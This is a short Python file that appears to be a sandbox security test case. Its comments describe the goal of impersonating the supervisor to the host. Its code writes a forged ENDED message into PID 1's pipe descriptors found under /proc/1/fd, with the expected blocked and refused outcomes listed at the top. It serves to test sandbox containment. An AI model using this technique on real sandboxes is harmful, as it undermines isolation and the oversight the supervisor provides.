# weakness: open supervisor
# goal: speak to the host in the supervisor's name
# reached: {"error": "the code wrote to a descriptor of the sandbox what does not belong there: forged"}
# refused: PermissionError
import os
import time

from attack import ENDED

for name in os.listdir("/proc/1/fd"):
    if int(name) > 2 and os.readlink(f"/proc/1/fd/{name}").startswith("pipe:"):
        try:
            os.write(os.open(f"/proc/1/fd/{name}", os.O_WRONLY | os.O_NONBLOCK), ENDED)
        except OSError:
            continue
time.sleep(10)
